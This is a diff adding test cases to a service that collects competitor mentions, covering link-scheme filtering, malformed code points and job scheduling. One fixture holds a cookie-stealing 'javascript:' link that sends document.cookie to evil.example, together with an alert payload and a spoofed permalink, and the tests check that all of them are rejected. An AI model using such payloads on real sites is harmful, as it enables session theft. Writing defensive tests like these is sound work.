@@ -237,6 +237,85 @@ describe("the schedule", () => {
   });
 });
 
+describe("what a post may carry", () => {
+  it("stores only http(s) links: a post whose link has another scheme, or leaves the provider's site, makes no event", async () => {
+    const { owner } = await watching("Schemely");
+    fake.add("github", {
+      id: "6001",
+      title: "Schemely breaks",
+      text: "",
+      postedAt: hoursAgo(1),
+      link: "javascript:fetch('https://evil.example/'+document.cookie)",
+    });
+    fake.add("github", { id: "6002", title: "Schemely fixed", text: "", postedAt: hoursAgo(1) });
+    fake.add("podcast", {
+      id: "6003",
+      title: "Schemely on air",
+      text: "",
+      postedAt: hoursAgo(1),
+      link: "JavaScript:alert(1)",
+    });
+    fake.add("reddit", {
+      id: "r6004",
+      title: "Schemely thread",
+      text: "",
+      postedAt: hoursAgo(1),
+      permalink: "@evil.example/r/saas/comments/r6004/",
+    });
+    const result = await run(owner.workspaceId);
+    expect(result.sources.github).toEqual({ found: 1, created: 1, error: null });
+    expect(result.sources.podcast).toEqual({ found: 0, created: 0, error: null });
+    expect(result.sources.reddit).toEqual({ found: 0, created: 0, error: null });
+    const events = await narrativeEvents(owner);
+    expect(events.map((e) => e.title)).toEqual(['Schemely mentioned on GitHub: "Schemely fixed"']);
+    const urls = await knex()("evidence as v")
+      .join("events as e", "e.id", "v.event_id")
+      .where({ "e.workspace_id": owner.workspaceId })
+      .pluck("v.source_url");
+    expect(urls).toEqual(["https://github.com/acme/sdk/issues/6002"]);
+  });
+
+  it("ignores invalid code points and fails per post, not per source: one crafted post stops nothing", async () => {
+    const { owner } = await watching("Codepointy");
+    // Beyond U+10FFFF, in hex and in decimal: the decoder used to throw on them, failing the whole source.
+    fake.add("hn", {
+      id: "7001",
+      title: "Codepointy &#x110000; launch",
+      text: "Codepointy &#1114112; and &#xD800; too",
+      postedAt: hoursAgo(1),
+    });
+    fake.add("github", { id: "7002", title: "Codepointy &#x110000;", text: "body &#x110000;", postedAt: hoursAgo(1) });
+    // A post whose id cannot be put in a link (a lone surrogate) is dropped alone; its neighbour is kept, and a lone
+    // surrogate in an author's name is stored as U+FFFD rather than failing the run's transaction.
+    fake.add("hn", { id: "\ud800", title: "Codepointy broken id", text: "", postedAt: hoursAgo(1) });
+    fake.add("hn", { id: "7003", title: "Codepointy author", text: "", postedAt: hoursAgo(1), author: "x\udc00y" });
+
+    const result = await run(owner.workspaceId);
+    expect(result.sources.hn).toEqual({ found: 2, created: 2, error: null });
+    expect(result.sources.github).toEqual({ found: 1, created: 1, error: null });
+    const titles = (await narrativeEvents(owner)).map((e) => e.title).sort();
+    // GitHub titles are plain text (shown as sent); Hacker News sends HTML, decoded.
+    expect(titles).toEqual([
+      'Codepointy mentioned on GitHub: "Codepointy &#x110000;"',
+      'Codepointy mentioned on Hacker News: "Codepointy author"',
+      'Codepointy mentioned on Hacker News: "Codepointy \ufffd launch"',
+    ]);
+    const monitor = await knex()("firehose_monitors").where({ workspace_id: owner.workspaceId }).first();
+    expect(monitor).toMatchObject({ consecutive_failures: 0, last_error: null });
+  });
+});
+
+describe("workspaces without competitors", () => {
+  it("get no firehose run: there is nothing to search for", async () => {
+    const empty = await createWorkspace(app, { plan: "growth", name: "Nothing tracked" });
+    const tracking = await watching("Trackly");
+    const schedule = new FirehoseSchedule({ knex: knex(), jobs: app.service.services.jobs });
+    await schedule.enqueueDue(new Date("2032-01-01T10:15:00Z"));
+    expect(await pendingJobs(knex(), QUEUES.firehoseRun, { workspace_id: empty.workspaceId })).toBe(0);
+    expect(await pendingJobs(knex(), QUEUES.firehoseRun, { workspace_id: tracking.owner.workspaceId })).toBe(1);
+  });
+});
+
 describe("GET /admin/firehose/monitors", () => {
   it("lists every realtime workspace's monitor by name, with 24 h counts per source and -1 without credentials", async () => {
     const { owner } = await watching("Mentora");
